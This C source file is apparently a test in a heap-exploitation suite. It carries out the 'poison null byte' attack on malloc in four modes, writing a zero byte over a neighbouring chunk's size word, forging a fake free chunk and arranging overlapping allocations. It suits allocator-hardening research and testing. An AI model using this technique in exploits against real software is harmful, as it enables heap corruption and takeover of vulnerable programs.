/* Usage: poison_null_byte SIZE used|free|flag|stale
   One zero byte behind an object, on the size word of the chunk that follows.
   "flag": that chunk's size is a multiple of 256, so that the byte changes only
   the flag that the one in front is free, and the end of the object, which is
   then a foot, leads to a forged chunk inside. "stale": to the header of a
   chunk that was free and was merged, as the heap left it. */
#include "attack.h"

int main(int argc, char **argv)
{
    size_t n = size_arg(argv), round = (n + 255) / 256 * 256 - 8;
    warm(n);
    int stale = is(argv, "stale");
    if (is(argv, "flag") || stale)
        n = round;
    take(n);
    unsigned char *a = take_raw(n), *b = take_raw(n);
    size_t chunk = malloc_usable_size(a) + 8;
    unsigned char *c = stale ? take_raw(n) : b, *victim = c;
    take(n);
    if (!stale && (size_t)(b - a) != chunk)
        return settle(); /* not neighbours */
    if (stale) {
        a = merge(a, b);
        uint64_t *ring = (uint64_t *)(a + 64);
        ring[0] = ring[1] = address(b);
        links(b)[0] = links(b)[1] = address(ring);
        *prev_size(victim) = chunk;
    }
    if (is(argv, "flag")) {
        unsigned char *fake = a + 64;
        *size_word(fake) = (uint32_t)(victim - fake) | 4;
        links(fake)[0] = links(fake)[1] = address(fake);
        *prev_size(victim) = (uint64_t)(victim - fake);
    }
    if (is(argv, "free"))
        to_bin(victim);
    *(unsigned char *)size_word(victim) = 0;
    if (!is(argv, "free"))
        to_bin(victim);
    for (int i = 0; i < 100; i++)
        take(n);
    if (is(argv, "free"))
        to_bin(a); /* whoever did not fit in a bin is met now */
    return settle();
}
